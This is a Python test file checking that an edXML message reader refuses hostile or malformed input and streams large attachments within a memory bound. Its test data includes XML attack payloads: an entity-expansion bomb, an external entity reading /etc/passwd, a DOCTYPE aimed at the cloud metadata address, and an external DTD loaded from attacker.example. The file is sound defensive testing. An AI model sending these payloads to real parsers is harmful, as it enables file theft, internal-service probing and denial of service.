"""Files that want to do harm are refused before anything in them is believed."""

import tracemalloc
from collections.abc import Iterator
from dataclasses import replace

import pytest

from services.document_routing.adapters import edxml_reader
from services.document_routing.adapters.edxml_reader import read_message
from services.document_routing.adapters.edxml_stream import content_streams
from services.document_routing.adapters.edxml_writer import Enclosure, write_message
from services.document_routing.domain.edxml.message import Manifest, Reference
from shared.errors import Error, Invalid, TooLarge
from tests.unit.document_routing.edxml.messages import PDF, a_document, enclosures

BOMB = "<!DOCTYPE a [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10)) + "]>"
GOOD = b"".join(write_message(a_document(), enclosures(a_document(), [PDF]))).decode()
DECLARATION, _, REST = GOOD.partition("\n")


def refusal(data: bytes, limit: int = 1_000_000) -> Error:
    with pytest.raises(Error) as refused:
        read_message(lambda: [data], limit=limit)
    return refused.value


@pytest.mark.parametrize(
    "doctype",
    [
        BOMB,
        '<!DOCTYPE edXML [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE edXML SYSTEM "http://169.254.169.254/latest/meta-data">',
        '<!DOCTYPE edXML [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
        "<!DOCTYPE edXML>",
    ],
)
def test_a_document_type_declaration_is_refused(doctype: str) -> None:
    text = f"{DECLARATION}\n{doctype}{REST.replace('Về việc kiểm thử', '&a9;')}"
    assert refusal(text.encode()).code == "message_with_doctype"


def test_the_second_parser_refuses_it_too() -> None:
    with pytest.raises(Invalid, match="message_with_doctype"):
        edxml_reader.parse(b"<!DOCTYPE a><a/>")


@pytest.mark.parametrize(
    "data",
    [b"", b"no xml", b"<a>", b"<a>&x;</a>", b"\xff\xfe\x00", GOOD.encode()[:-20], GOOD.encode() + b"<b/>"],
)
def test_what_is_no_xml_is_refused(data: bytes) -> None:
    assert refusal(data).code == "message_unreadable"


ODD = "UTF-7 UTF-32 GB18030 EBCDIC-CP-US TCVN x-none rot13 base64 idna punycode hex zlib unicode_escape"


@pytest.mark.parametrize("encoding", ODD.split())
def test_an_odd_encoding_is_refused(encoding: str) -> None:
    assert refusal(f'<?xml version="1.0" encoding="{encoding}"?>\n{REST}'.encode()).code == "message_unreadable"


NAMES = ["utf-8", "UTF-16", "us-ascii", "ISO-8859-1", "windows-1252", "windows-1258"]
OTHER_NAMES = ["utf8", "UTF_8", "Latin1", "latin-1", "ascii", "cp1252", "cp1258", "utf16"]


@pytest.mark.parametrize("size", [1, 30, 100_000])
@pytest.mark.parametrize("encoding", [*NAMES, *OTHER_NAMES])
def test_an_encoding_of_xml_itself_or_of_old_software_is_read(encoding: str, size: int) -> None:
    content = f'<?xml version="1.0" encoding="{encoding}"?>\n{REST}'.encode(encoding, "xmlcharrefreplace")
    chunks = [content[start : start + size] for start in range(0, len(content), size)]
    read = read_message(lambda: chunks, limit=1_000_000).message
    assert read.header.sender == a_document().header.sender


def test_depth_and_number_of_elements_are_limited() -> None:
    assert refusal(b"<a>" * 100 + b"</a>" * 100).code == "message_too_deep"
    assert refusal(b"<a>" + b"<b/>" * 30_000 + b"</a>").code == "message_too_deep"


def test_a_long_text_outside_of_attachments_is_refused() -> None:
    assert isinstance(refusal(b"<a>" + b"x" * 3_000_000 + b"</a>", 10_000_000), TooLarge)
    assert isinstance(refusal(b"<a b='" + b"x" * 3_000_000 + b"'/>", 10_000_000), TooLarge)


def test_a_file_beyond_the_limit_is_refused_before_it_is_read_whole() -> None:
    read = 0

    def endless() -> Iterator[bytes]:
        nonlocal read
        yield b"<a><ContentTransferEncoded>"
        while True:
            read += 1000
            yield b"A" * 1000

    with pytest.raises(TooLarge, match="message_too_large"):
        read_message(endless, limit=100_000)
    assert read < 110_000


def test_elements_inside_of_a_content_are_refused() -> None:
    text = GOOD.replace("<ContentTransferEncoded>", "<ContentTransferEncoded><b/>")
    assert refusal(text.encode()).code == "message_unreadable"


@pytest.mark.parametrize(
    "text",
    [
        GOOD.replace("<AttachmentEncoded>", "<edXMLEnvelope><MessageHeader/></edXMLEnvelope><AttachmentEncoded>"),
        GOOD.replace("<edXML:edXMLBody>", "<edXML:MessageHeader/><edXML:edXMLBody>"),
        GOOD.replace("edXMLEnvelope", "Envelope"),
    ],
)
def test_there_is_exactly_one_envelope_and_one_header(text: str) -> None:
    assert refusal(text.encode()).code == "message_invalid"


def test_a_large_attachment_never_lies_in_memory_whole() -> None:
    size, piece = 24 * 1024 * 1024, bytes(range(256)) * 1024
    reference = Reference("lon", "application/pdf", "", "lon.pdf")
    message = replace(a_document(), manifest=Manifest((reference,)))

    def written() -> Iterator[bytes]:
        return write_message(message, [Enclosure(reference, (piece for _ in range(size // len(piece))))])

    tracemalloc.start()
    try:
        found = read_message(written, limit=2 * size)
        stream = next(content_streams(written(), 2 * size))
        taken = sum(map(len, iter(lambda: stream.read(65536), b"")))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert found.attachments[0].content.size == taken == size
    assert peak < 4 * 1024 * 1024
